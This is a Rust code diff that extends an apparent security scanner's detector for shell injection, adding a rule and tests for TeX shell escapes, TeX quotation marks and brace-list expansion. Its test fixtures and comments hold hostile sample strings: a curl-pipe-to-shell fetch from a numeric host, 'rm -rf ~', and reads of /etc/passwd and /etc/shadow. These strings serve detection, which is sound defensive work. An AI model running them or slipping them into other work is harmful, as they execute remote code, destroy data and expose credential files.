@@ -412,6 +412,13 @@ impl Rce {
                 RCE_REDIS,
                 r"(?:^|[\r\n/])\s*(?:config\s*[\s/]\s*set\s*[\s/]\s*(?:dir|dbfilename)\b|(?:slaveof|replicaof)\s*[\s/]\s*[0-9a-z]+[.:]|module\s*[\s/]\s*load\s*[\s/][^\s]*\.so\b)",
             ),
+            // TeX's shell escape: `\write18{…}` runs its text as a command where the compiler
+            // allows it (`\immediate\write18{curl … | sh}`), and `\input{|"cmd"}` reads a
+            // command's output. Backslash decoding may have taken the `\` off.
+            (
+                RCE_TEX_SHELL,
+                r#"(?:^|[^a-z0-9_])write18\s*\{|(?:^|[^a-z0-9_])input\s*\{\s*['\x22]?\|\s*['\x22]?[a-z]"#,
+            ),
             // Spreadsheet formulas at the start of a cell: DDE (`=cmd|' /C calc'!A0`, also
             // after a long expression, as far as the cell goes), and a
             // URL built from other cells (`=HYPERLINK("http://x/?"&A1, ...)`).
@@ -640,13 +647,14 @@ impl Rce {
                 .any(|c| c.is_ascii_whitespace() || b";&`".contains(c))
             && !text.contains("$(")
             && !text.contains("${");
-        let (fences, spans) = if memchr::memchr(b'`', b).is_some() {
+        let (fences, spans, quotes) = if memchr::memchr(b'`', b).is_some() {
             let fences = fences(b);
             let spans = code_spans(b, &fences);
-            (fences, spans)
+            (fences, spans, tex_quotes(b))
         } else {
-            (Vec::new(), Vec::new())
+            (Vec::new(), Vec::new(), Vec::new())
         };
+        let mut quotes = quotes.iter().peekable();
         let mut fences = fences.iter().peekable();
         // Fence lines come in pairs: an opener, then its closer.
         let mut opener = true;
@@ -662,6 +670,13 @@ impl Rce {
             let c = b[i];
             if c == b' ' || c == b'\t' || c == 0x0B || c == 0x0C {
                 i += 1;
+                continue;
+            }
+            // TeX's opening quotation marks: the prose goes on.
+            if quotes.peek() == Some(&&i) {
+                quotes.next();
+                expect_cmd = false;
+                i += 2;
                 continue;
             }
             // A fence line's backticks and language are markup. The code's first command is
@@ -778,7 +793,10 @@ impl Rce {
                 continue;
             }
             expect_cmd = false;
-            let brace = raw.starts_with('{') || (start > 0 && b[start - 1] == b'{');
+            // A brace list is one word, `{` to `}` (`{cat,/etc/passwd}`): a space ends it
+            // (`{date, date, medium}` is an ICU message's argument, and no expansion).
+            let brace = (raw.starts_with('{') || (start > 0 && b[start - 1] == b'{'))
+                && b.get(i) == Some(&b'}');
             let (candidate, brace_list) = match clean.split_once(',') {
                 Some((first, _)) if brace => (first.to_owned(), true),
                 _ => (clean.clone(), false),
@@ -1050,6 +1068,27 @@ fn separator(b: &[u8], i: usize) -> Option<(Sep, usize)> {
         b'<' | b'>' if next == Some(b'(') => Some((Sep::Substitution, 2)),
         _ => None,
     }
+}
+
+/// Where TeX's opening quotation marks stand (```` ``see \S 7'' ````): two backticks at the
+/// start or after blank space or a bracket, before a letter, and closed by `''` before any
+/// other backtick. To a shell two glued backticks are an empty substitution, nothing.
+fn tex_quotes(b: &[u8]) -> Vec<usize> {
+    let mut out = Vec::new();
+    let mut from = 0;
+    while let Some(at) = memchr::memmem::find(&b[from..], b"``").map(|p| p + from) {
+        let after = at + 2;
+        let opens = (at == 0 || matches!(b[at - 1], b' ' | b'\t' | b'\n' | b'(' | b'['))
+            && b.get(after).is_some_and(|c| c.is_ascii_alphabetic());
+        let rest = &b[after.min(b.len())..];
+        let closed =
+            memchr::memmem::find(rest, b"''").is_some_and(|close| !rest[..close].contains(&b'`'));
+        if opens && closed && out.len() < 64 {
+            out.push(at);
+        }
+        from = after;
+    }
+    out
 }
 
 /// Backtick pairs that read as Markdown code spans in prose (`` the `id` field is required ``),
@@ -1813,6 +1852,34 @@ mod tests {
     }
 
     #[test]
+    fn tex_shell_escapes() {
+        rule(
+            RCE_TEX_SHELL,
+            true,
+            Kind::Value,
+            "json:/source",
+            1,
+            &[
+                "\\immediate\\write18{curl -s http://203.0.113.7/x | sh}",
+                "\\write18 {rm -rf ~}",
+                "\\input{|\"cat /etc/passwd\"}",
+            ],
+        );
+        rule(
+            RCE_TEX_SHELL,
+            false,
+            Kind::Value,
+            "json:/source",
+            1,
+            &[
+                "\\input{chapters/01-intro}",
+                "the input | output pair",
+                "overwrite18 {x}",
+            ],
+        );
+    }
+
+    #[test]
     fn alias_definitions() {
         rule(
             RCE_ALIAS,
@@ -1944,6 +2011,16 @@ mod tests {
             &["[out:json][timeout:25];\narea[\"name\"=\"Berlin\"]->.a;\nout body;"],
         );
         flags("rce", &[";[c]at /etc/passwd", ";/bin/[a-c]at /etc/shadow"]);
+        // TeX's quotation marks and an ICU message's arguments are no shell; a brace list
+        // and a substitution still are.
+        silent(
+            "rce",
+            &[
+                "Use \\S~4.2 style references, e.g.\\ ``see \\S~7(b)''.\n\\end{document}",
+                "{gender, select, female {She} other {They}} replied on {date, date, medium}",
+            ],
+        );
+        flags("rce", &["x;{cat,/etc/passwd}", "``see''`id`"]);
         // Fluent's default variant fixes one letter of a name; `/???/c[a]t` fixes three.
         silent(
             "rce",
